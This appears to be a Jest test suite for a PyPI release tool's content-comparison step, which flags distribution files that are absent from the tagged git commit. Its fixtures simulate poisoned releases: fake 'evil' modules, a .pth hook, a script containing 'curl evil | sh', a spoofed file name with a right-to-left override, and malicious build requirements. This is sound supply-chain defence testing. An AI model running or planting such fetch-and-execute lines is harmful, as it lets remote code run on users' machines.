import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
import { githubAdapter } from "../../src/adapters/github/adapter.ts";
import type { Tree } from "../../src/domain/content/tree.ts";
import { Journal } from "../../src/domain/journal.ts";
import type { Manifest } from "../../src/domain/manifest.ts";
import type { GitHub } from "../../src/ports/github.ts";
import { adjustableClock } from "../../src/sandbox/clock.ts";
import { type GitHubServer, startGitHub } from "../../src/sandbox/github/server.ts";
import { type CompareRequest, compareContent } from "../../src/steps/compare-content.ts";
import { recordingClock, testClient } from "../adapters/http/scripted-server.ts";
import { tarGzOf } from "../archives/tar-builder.ts";
import { zipOf } from "../archives/zip-builder.ts";
import { git, REPOSITORY, WRITE_TOKEN } from "../sandbox/github/world.ts";
import { plan as samplePlan } from "./sample-sources.ts";

const FILES: Readonly<Record<string, string>> = {
  "pyproject.toml": "[project]\nname = 'omi'\n",
  "src/omi/__init__.py": "print('hello')\n",
  "src/omi/unix.py": "a = 1\n",
  "setup.cfg": "[metadata]\n# Written by hand.\nname=omi\n",
  ".gitattributes": ".git_archival.txt export-subst\n*.bin filter=lfs\n",
  ".git_archival.txt": "node: $Format:%H$\n",
  // The content that this pointer names is "large\0".
  "src/omi/data.bin":
    "version https://git-lfs.github.com/spec/v1\noid sha256:b6e3457f2f906a20d58a1ca5de85fe2aec920ce7bb578a1bb31e4723f5445423\nsize 6\n",
};

let folder: string;
let distributions: string;
let server: GitHubServer;
let github: GitHub;
let commit: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "tag2pypi-content-"));
  distributions = join(folder, "dist");
  const work = join(folder, "work");
  await git(folder, "init", "--quiet", "--initial-branch=main", work);
  for (const [path, text] of Object.entries(FILES)) {
    await mkdir(dirname(join(work, path)), { recursive: true });
    await writeFile(join(work, path), text);
  }
  // The attributes name a filter that only git-lfs has.
  await git(work, "-c", "filter.lfs.required=false", "add", "--all");
  const submodule = `160000,${"5".repeat(40)},src/omi/vendor`;
  await git(work, "update-index", "--add", "--cacheinfo", submodule);
  const person = ["-c", "user.name=Ada", "-c", "user.email=ada@example.org"];
  await git(work, ...person, "commit", "--quiet", "--message", "Release");
  commit = await git(work, "rev-parse", "HEAD");
  const gitDirectory = join(folder, "omi.git");
  await git(folder, "clone", "--quiet", "--mirror", work, gitDirectory);
  server = await startGitHub({
    clock: adjustableClock(new Date("2026-03-04T05:06:07Z")),
    repository: REPOSITORY,
    defaultBranch: "main",
    gitDirectory,
    tokens: [{ value: WRITE_TOKEN, contents: "write" }],
  });
  const adapter = githubAdapter({
    owner: REPOSITORY.owner,
    repo: REPOSITORY.name,
    token: WRITE_TOKEN,
    baseUrl: server.apiUrl,
    client: testClient({ clock: recordingClock() }),
  });
  // Trees come from the sandbox, by the adapter; contents, which it does not serve, from the repository itself.
  const blob = async (id: string) =>
    execFileSync("git", [`--git-dir=${gitDirectory}`, "cat-file", "blob", id]);
  github = { ...adapter, blob };
});
afterAll(async () => {
  await server.close();
  await rm(folder, { recursive: true });
});
beforeEach(async () => {
  await rm(distributions, { recursive: true, force: true });
  await mkdir(distributions);
});

const WHEEL = "omi-1.0-py3-none-any.whl";
const LINUX_WHEEL = "omi-1.0-cp311-cp311-linux_x86_64.whl";
const SDIST = "omi-1.0.tar.gz";
const METADATA = { "omi-1.0.dist-info/METADATA": "Name: omi\n", "omi-1.0.dist-info/RECORD": "" };
type Contents = Readonly<Record<string, string>>;

async function put(name: string, files: Contents): Promise<void> {
  const members = Object.entries(files).map(([path, content]) => ({ name: path, content }));
  const sdist = members.map((member) => ({ ...member, name: `omi-1.0/${member.name}` }));
  await writeFile(
    join(distributions, name),
    name.endsWith(".whl") ? zipOf(members) : tarGzOf(sdist),
  );
}

function digestOf(path: string) {
  const bytes = readFileSync(path);
  return { size: bytes.length, sha256: createHash("sha256").update(bytes).digest("hex") };
}

function requestFor(names: readonly string[], generated: readonly string[] = []): CompareRequest {
  const plan = { ...samplePlan, tag: { name: "v1.0", object: commit, commit } };
  const manifest: Manifest = {
    schema: 1,
    plan,
    notes: "",
    smoke: { commands: [] },
    files: names.map((name) => ({
      name,
      kind: name.endsWith(".whl") ? "wheel" : "sdist",
      ...digestOf(join(distributions, name)),
    })),
  };
  return { plan, manifest, distributions, generated };
}

async function compare(request: CompareRequest, outside: Pick<GitHub, "tree" | "blob"> = github) {
  const journal = new Journal({ now: () => new Date(0) });
  await journal.step("compare-content", compareContent(request, { github: outside }));
  const [outcome] = journal.report().outcomes;
  return outcome;
}

describe("distributions of the tagged commit", () => {
  test("give nothing but numbers", async () => {
    await put(WHEEL, {
      "omi/__init__.py": FILES["src/omi/__init__.py"] ?? "",
      "omi/py.typed": "",
      "omi/_version.py": "version = '1.0'\n",
      ...METADATA,
    });
    await put(SDIST, { ...FILES, "PKG-INFO": "Name: omi\n", "src/omi.egg-info/PKG-INFO": "x" });
    expect(await compare(requestFor([WHEEL, SDIST]))).toMatchObject({
      status: "done",
      diagnostics: [],
      result: [
        { file: WHEEL, members: 5, committed: 3, generated: 2 },
        { file: SDIST, members: 9, committed: 7, generated: 2 },
      ],
    });
  });

  test("may have what the project says that it generates", async () => {
    await put(WHEEL, { "omi/_grammar.py": "import os\n", ...METADATA });
    expect(await compare(requestFor([WHEEL], ["omi/_grammar.py"]))).toMatchObject({
      diagnostics: [],
      result: [{ file: WHEEL, members: 3, committed: 1, generated: 2 }],
    });
  });
});

describe("code that is in no commit", () => {
  test("stops the release, whatever else is in order", async () => {
    const evil = Object.fromEntries([1, 2, 3, 4, 5].map((n) => [`omi/evil${n}.py`, `${n}`]));
    await put(WHEEL, { ...evil, "evil.pth": "import evil\n", ...METADATA });
    expect(await compare(requestFor([WHEEL]))).toMatchObject({
      status: "failed",
      diagnostics: [
        {
          code: "content-python-unknown",
          severity: "error",
          message: `${WHEEL} has 6 Python files whose content is nowhere in the commit of the tag v1.0 (${commit.slice(0, 12)}): omi/evil1.py, omi/evil2.py, omi/evil3.py, omi/evil4.py, omi/evil5.py, and 1 more.`,
          hint: `Find out what wrote it: code that is in no commit has been reviewed by nobody, and this is how poisoned releases look. If the project's own build generates it, say so in pyproject.toml:
[tool.tag2pypi]
build.generated = ["omi/evil1.py", "omi/evil2.py", "omi/evil3.py", "omi/evil4.py", "omi/evil5.py"]`,
        },
      ],
      result: [{ file: WHEEL, members: 8, committed: 1, generated: 1 }],
    });
  });

  test("is found in the sdist as in the wheel, and in what pretends to be a version", async () => {
    await put(SDIST, { "setup.py": "evil()\n" });
    await put(WHEEL, { "omi/_version.py": "version = '1.0'\nimport os\n" });
    const outcome = await compare(requestFor([SDIST, WHEEL]));
    expect(outcome?.diagnostics.map(({ code, message }) => [code, message.split(" ")[0]])).toEqual([
      ["content-python-unknown", SDIST],
      ["content-python-unknown", WHEEL],
    ]);
  });
});

describe("what runs, or is installed, is not only data", () => {
  const build = "[build-system]\nrequires = ['evil']\n";
  test.each([
    ["content-extension-unknown", WHEEL, "omi/__init__.abi3.so", "\0", "beside it"],
    ["content-command-unknown", WHEEL, "omi-1.0.data/scripts/omi", "curl evil | sh\n", "PATH"],
    ["content-command-unknown", WHEEL, "omi-1.0.data/data/bin/git", "#!/bin/sh\n", "PATH"],
    ["content-build-unknown", SDIST, "pyproject.toml", build, "builds the sdist"],
    ["content-build-unknown", SDIST, "setup.cfg", "[options]\nsetup_requires = evil\n", "builds"],
  ])("%s, in %s: %s", async (code, distribution, path, content, why) => {
    await put(distribution, { [path]: content });
    expect(await compare(requestFor([distribution]))).toMatchObject({
      status: "failed",
      diagnostics: [
        {
          code,
          severity: "error",
          message: expect.stringContaining(`: ${path}.`),
          hint: expect.stringContaining(why),
        },
      ],
    });
    expect(await compare(requestFor([distribution], [path]))).toMatchObject({ diagnostics: [] });
  });

  test("but setuptools may write the project's own setup.cfg anew", async () => {
    const text = "[metadata]\nname = omi\n\n[egg_info]\ntag_build = \ntag_date = 0\n\n";
    await put(SDIST, { "setup.cfg": text });
    expect(await compare(requestFor([SDIST]))).toMatchObject({ status: "done", diagnostics: [] });
  });
});

describe("what is otherwise not as in the commit is told with its reason", () => {
  test.each([
    ["content-data-unknown", "warning", WHEEL, "omi/new.json", "{}"],
    ["content-compiled", "notice", LINUX_WHEEL, "omi/fast.abi3.so", "\0"],
    ["content-submodule", "notice", WHEEL, "omi/vendor/six.py", "import sys\n"],
    ["content-line-ends", "notice", SDIST, "src/omi/unix.py", "a = 1\r\n"],
    ["content-export-subst", "notice", SDIST, ".git_archival.txt", "node: 12ab\n"],
    ["content-large-file", "notice", WHEEL, "omi/data.bin", "large\0"],
  ])("%s, a %s, in %s: %s", async (code, severity, distribution, path, content) => {
    await put(distribution, { [path]: content });
    const outcome = await compare(requestFor([distribution]));
    expect(outcome).toMatchObject({
      status: "done",
      diagnostics: [{ code, severity, message: expect.stringContaining(`: ${path}.`) }],
      result: [{ file: distribution, members: 1, committed: 0, generated: 0 }],
    });
  });

  test("even if names try to be more than names", async () => {
    await put(WHEEL, { [`omi/${"x".repeat(200)}`]: "1", "omi/a\u202eb": "2" });
    const outcome = await compare(requestFor([WHEEL]));
    expect(outcome?.diagnostics[0]?.message).toContain(`: omi/${"x".repeat(115)}…, omi/a b.`);
  });
});

describe("without a comparison", () => {
  test("a broken archive is told as inspect tells it, and the others are compared", async () => {
    await writeFile(join(distributions, WHEEL), "no wheel");
    await put(SDIST, FILES);
    expect(await compare(requestFor([WHEEL, SDIST]))).toMatchObject({
      status: "failed",
      diagnostics: [{ code: "distribution-unreadable" }],
      result: [{ file: SDIST, members: 7, committed: 7, generated: 0 }],
    });
  });

  test("a file that is no longer the manifest's is told, and the others are compared", async () => {
    await put(WHEEL, METADATA);
    await put(SDIST, FILES);
    const request = requestFor([WHEEL, SDIST]);
    await put(WHEEL, { ...METADATA, "omi/evil.py": "evil()\n" });
    expect(await compare(request)).toMatchObject({
      status: "failed",
      diagnostics: [{ code: "manifest-mismatch" }],
      result: [{ file: SDIST, members: 7, committed: 7, generated: 0 }],
    });
  });

  test("a repository of the SHA-256 format says so", async () => {
    await put(WHEEL, METADATA);
    const request = requestFor([WHEEL]);
    const tag = { name: "v1.0", object: commit, commit: "a".repeat(64) };
    expect(await compare({ ...request, plan: { ...samplePlan, tag } })).toMatchObject({
      status: "skipped",
      diagnostics: [
        {
          code: "content-not-compared",
          severity: "notice",
          message:
            "The files in the distributions are not looked up in the tagged commit, because the repository names its objects by SHA-256.",
        },
      ],
      result: [],
    });
  });

  test("a tree that is too large says so", async () => {
    await put(WHEEL, METADATA);
    const tree = async (): Promise<Tree> => ({ entries: [], truncated: true });
    expect(await compare(requestFor([WHEEL]), { ...github, tree })).toMatchObject({
      status: "skipped",
      diagnostics: [{ code: "content-not-compared" }],
      result: [],
    });
  });

  test("placeholders excuse nothing where GitHub does not show the files that hold them", async () => {
    await put(SDIST, { ".git_archival.txt": "node: 12ab\n" });
    const outcome = await compare(requestFor([SDIST]), { ...github, blob: async () => undefined });
    expect(outcome?.diagnostics.map(({ code }) => code)).toEqual(["content-data-unknown"]);
  });
});
